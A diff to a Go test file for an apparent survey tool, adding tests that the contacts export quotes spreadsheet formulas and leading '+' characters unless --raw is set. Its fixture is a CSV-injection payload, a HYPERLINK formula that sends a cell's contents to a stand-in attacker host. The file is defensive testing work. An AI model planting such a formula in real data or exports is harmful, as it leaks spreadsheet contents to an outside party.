@@ -1,10 +1,14 @@
 package main
 
 import (
+	"context"
 	"encoding/csv"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"staffnet/internal/store"
 )
 
 const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
@@ -56,5 +60,50 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 	}
 	if _, raw3, _ := cli(t, "", "responses", "export", "--db", third, "--survey", slug, "--raw"); cells(raw3)["benefits_comment"] != "'"+formula {
 		t.Errorf("neutralised import: %q", cells(raw3)["benefits_comment"])
+	}
+}
+
+// addContacts stores contact details the way the web form does, and
+// releases them at once.
+func addContacts(t *testing.T, db *store.DB, cs ...store.Contact) {
+	t.Helper()
+	ctx := context.Background()
+	pool := db.NewContactPool(store.NewContactKey())
+	for _, c := range cs {
+		if err := pool.Add(c); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := pool.Spill(ctx); err != nil {
+		t.Fatal(err)
+	}
+	tomorrow := time.Now().UTC().AddDate(0, 0, 1).Format(time.DateOnly)
+	if out, err := db.ReleaseContacts(ctx, pool.Key(), store.Release{Before: tomorrow}); err != nil || len(out) != len(cs) {
+		t.Fatalf("release: %d, %v", len(out), err)
+	}
+}
+
+// TestContactsListNeutralisesFormulas: contact details are typed by
+// respondents; contacts list quotes a formula unless --raw is given.
+func TestContactsListNeutralisesFormulas(t *testing.T) {
+	dsn := filepath.Join(t.TempDir(), "c.db")
+	db, err := store.Open(context.Background(), dsn)
+	if err != nil {
+		t.Fatal(err)
+	}
+	addContacts(t, db, store.Contact{SurveySlug: slug, Name: formula, Email: "ada@example.nhs.uk", Organisation: "+44 trust"})
+	db.Close()
+	_, out, _ := cli(t, "", "contacts", "list", "--db", dsn)
+	r := csv.NewReader(strings.NewReader(out))
+	r.Comma = '\t'
+	rec, err := r.Read()
+	if err != nil || len(rec) != 4 || rec[2] != "'"+formula || rec[3] != "'+44 trust" {
+		t.Errorf("contacts list: %q, %v", rec, err)
+	}
+	_, out, _ = cli(t, "", "contacts", "list", "--db", dsn, "--raw")
+	r = csv.NewReader(strings.NewReader(out))
+	r.Comma = '\t'
+	if rec, err := r.Read(); err != nil || rec[2] != formula || rec[3] != "+44 trust" {
+		t.Errorf("contacts list --raw: %q, %v", rec, err)
 	}
 }
